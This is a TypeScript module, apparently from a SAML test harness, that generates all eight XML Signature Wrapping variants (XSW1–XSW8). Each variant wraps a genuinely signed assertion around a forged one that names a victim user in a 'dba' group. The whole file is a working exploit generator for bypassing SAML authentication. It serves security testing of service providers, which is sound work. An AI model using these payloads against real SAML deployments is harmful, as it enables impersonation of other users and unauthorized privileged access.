import { assertionXml, newId, responseXml, signXml, type Sp } from './saml-idp.ts';

const SIGNATURE = /<Signature [\s\S]*?<\/Signature>/;
const ISSUER_END = '</saml:Issuer>';

const signatureOf = (xml: string): string => SIGNATURE.exec(xml)?.[0] ?? '';
const withoutSignature = (xml: string): string => xml.replace(SIGNATURE, '');
const afterIssuer = (xml: string, more: string): string =>
  xml.replace(ISSUER_END, () => ISSUER_END + more);
const intoSignature = (signature: string, more: string): string =>
  signature.replace('</Signature>', () => `${more}</Signature>`);

/**
 * The eight ways of signature wrapping (Somorovsky and others, "On Breaking SAML", 2012, as SAML Raider numbers them):
 * what the provider has signed for the attacker stays in the document and verifies, and a reader that looks elsewhere
 * finds the victim. XML of each.
 */
export function wrappings(
  sp: Sp,
  key: string,
  { inResponseTo, victim }: { readonly inResponseTo: string; readonly victim: string },
): ReadonlyMap<string, string> {
  const attributes = { email: [victim], displayName: ['Victim'], groups: ['dba'] };
  const evil = assertionXml(sp, { inResponseTo, attributes, nameId: victim });
  const signed = signXml(assertionXml(sp, { inResponseTo }), key);
  const [signature, bare] = [signatureOf(signed), withoutSignature(signed)];
  const around = (inside: string): string => responseXml(sp, inside, { inResponseTo });

  // The first two need a response that is signed itself, as many providers send it.
  const response = signXml(around(signed), key, { element: 'Response' });
  const ofResponse = signatureOf(response);
  const original = withoutSignature(response);
  const evilResponse = responseXml(sp, evil, { inResponseTo, id: newId() });
  return new Map([
    ['XSW1', afterIssuer(evilResponse, intoSignature(ofResponse, original))],
    ['XSW2', afterIssuer(evilResponse, original + ofResponse)],
    ['XSW3', around(evil + signed)],
    ['XSW4', around(evil.replace('</saml:Assertion>', () => `${signed}</saml:Assertion>`))],
    ['XSW5', around(afterIssuer(evil, signature) + bare)],
    ['XSW6', around(afterIssuer(evil, intoSignature(signature, bare)))],
    ['XSW7', around(`<samlp:Extensions>${evil}</samlp:Extensions>${signed}`)],
    ['XSW8', around(afterIssuer(evil, intoSignature(signature, `<Object>${bare}</Object>`)))],
  ]);
}
